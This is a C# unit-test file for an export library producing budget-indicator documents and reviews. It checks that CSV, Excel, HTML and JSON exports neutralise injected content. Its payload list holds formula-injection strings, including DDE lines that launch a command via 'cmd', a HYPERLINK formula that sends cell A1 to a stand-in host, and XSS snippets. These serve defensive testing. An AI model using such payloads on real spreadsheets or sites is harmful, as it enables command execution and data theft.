using System.IO.Compression;
using System.Text;
using System.Text.Json;
using System.Xml;
using Jixiao.Domain.Amounts;
using Jixiao.Domain.Documents;
using Jixiao.Domain.Indicators;
using Jixiao.Domain.Review;
using Jixiao.Domain.Scoring;
using Jixiao.Export.Documents;
using Jixiao.Contracts;
using Jixiao.Export.Review;
using Jixiao.Export.Scoring;
using Jixiao.Import.Actuals;

namespace Jixiao.Export.Tests;

/// <summary>
/// Every export opened the way a reviewer's tools open it, with formulas and markup typed into every
/// text field: no CSV cell a spreadsheet would evaluate, no formula in any workbook, no live markup in
/// the HTML report, and JSON that carries the text as text.
/// </summary>
public class ExportSafetyTests
{
    private static readonly string[] Payloads =
    [
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "'=1+1", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    ];

    private static TargetDocument Hostile()
    {
        var document = new TargetDocument(Payloads[0], new BudgetUnit(Payloads[1]), AmountUnit.WanYuan, new DocumentSource("x.txt", SourceFormat.Text));
        document.SetSummary(new SummaryRow(Payloads[2], new Funding(Money.FromWanYuan(10), null, null, Money.FromWanYuan(-1.5m)), default));
        for (var p = 0; p < Payloads.Length; p++)
        {
            var payload = Payloads[p];
            var project = new Project(payload + "项目", new Funding(Money.FromWanYuan(-3.25m), Money.FromWanYuan(1200), null, null), payload, default);
            project.AddIndicator(Indicator.Create(1, Level1.Output, Level2.Quantity, payload, payload, default));
            project.AddIndicator(Indicator.Create(2, Level1.Satisfaction, null, "满意度", "≥90%", default));
            document.AddProject(project);
        }

        return document;
    }

    [Fact]
    public void DocumentCsv_HasNoCellASpreadsheetWouldEvaluate()
    {
        var csv = Encoding.UTF8.GetString(RoundTripTests.Export(Hostile(), "csv"));
        var cells = ParseCsv(csv.TrimStart('\uFEFF')).SelectMany(r => r).ToList();
        Assert.Contains(cells, c => c.StartsWith("'=HYPERLINK", StringComparison.Ordinal));
        Assert.Contains("-3.25", cells);
        Assert.All(cells, cell => Assert.False(Evaluated(cell), $"a spreadsheet would evaluate «{cell}»"));
    }

    [Fact]
    public void Workbooks_HoldNoFormulaAndKeepFormulaTextAsText()
    {
        var document = Hostile();
        var review = Reviewer.Review([document], ReviewSettings.National);
        var workbooks = new Dictionary<string, byte[]>
        {
            ["document"] = RoundTripTests.Export(document, "xlsx"),
            ["review"] = Write(stream => ReviewXlsx.Write(stream, review)),
            ["self-evaluation"] = Write(stream => SelfEvaluationXlsx.Write(stream, Payloads[1], 2026, Scored(document))),
        };

        foreach (var (name, bytes) in workbooks)
        {
            using var zip = new ZipArchive(new MemoryStream(bytes), ZipArchiveMode.Read);
            var sheets = zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)).ToList();
            Assert.NotEmpty(sheets);
            var formulaText = 0;
            foreach (var sheet in sheets)
            {
                using var reader = XmlReader.Create(sheet.Open());
                string? type = null;
                while (reader.Read())
                {
                    if (reader.NodeType != XmlNodeType.Element)
                    {
                        continue;
                    }

                    Assert.False(reader.LocalName == "f", $"{name}: {sheet.FullName} holds a formula");
                    if (reader.LocalName == "c")
                    {
                        type = reader.GetAttribute("t");
                    }
                    else if (reader.LocalName == "t" && reader.ReadElementContentAsString() is var text && text.StartsWith('='))
                    {
                        Assert.True(type is "inlineStr" or "s", $"{name}: «{text}» is not a text cell");
                        formulaText++;
                    }
                }
            }

            Assert.True(formulaText > 0, $"{name}: the formula texts should be there, as text");
        }
    }

    [Fact]
    public void ReviewHtml_ShowsMarkupAsText()
    {
        using var writer = new StringWriter();
        ReviewHtml.Write(writer, Reviewer.Review([Hostile()], ReviewSettings.National));
        var html = writer.ToString();
        Assert.DoesNotContain("<script>alert", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<img src=x", html, StringComparison.Ordinal);
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", html, StringComparison.Ordinal);
    }

    [Fact]
    public void DocumentAndReviewJson_CarryTheTextsAsText()
    {
        var document = Hostile();
        using var json = JsonDocument.Parse(RoundTripTests.Export(document, "json"));
        var names = json.RootElement.GetProperty("projects").EnumerateArray().Select(p => p.GetProperty("name").GetString()).ToList();
        Assert.Equal(Payloads.Select(p => p + "项目"), names);
        using var review = JsonDocument.Parse(ReviewJson.Serialize(Reviewer.Review([document], ReviewSettings.National)));
        Assert.Equal(JsonValueKind.Object, review.RootElement.ValueKind);
    }

    /// <summary>What a spreadsheet evaluates: a cell starting with = + - @, a tab or a carriage return, unless it is a plain number.</summary>
    private static bool Evaluated(string cell) =>
        cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r'
        && !System.Text.RegularExpressions.Regex.IsMatch(cell, @"^[+-][0-9][0-9,]*(\.[0-9]+)?$");

    /// <summary>An RFC 4180 reader written apart from the product's, as a spreadsheet would read the file.</summary>
    private static List<List<string>> ParseCsv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"' && cell.Length == 0)
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c == '\n' || (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n'))
            {
                i += c == '\r' ? 1 : 0;
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add(row);
                row = [];
            }
            else
            {
                cell.Append(c);
            }
        }

        return rows;
    }

    private static byte[] Write(Action<Stream> write)
    {
        using var stream = new MemoryStream();
        write(stream);
        return stream.ToArray();
    }

    private static List<ScoredProject> Scored(TargetDocument document)
    {
        var csv = new StringBuilder("project,seq,actual,percent,note\n");
        foreach (var project in document.Projects.Where(p => !char.IsWhiteSpace(p.Name[0])))
        {
            csv.Append('"').Append(project.Name.Replace("\"", "\"\"", StringComparison.Ordinal)).Append("\",,1000,,\n");
        }

        var settings = ReviewSettings.National.Scoring;
        var actuals = ActualsReader.Read(Encoding.UTF8.GetBytes(csv.ToString()), document, settings);
        Assert.Empty(actuals.Errors);
        return [.. actuals.Projects.Select(p => new ScoredProject(p.Project, p.Actuals, Scorer.Score(p.Project, p.Actuals, settings)))];
    }
}
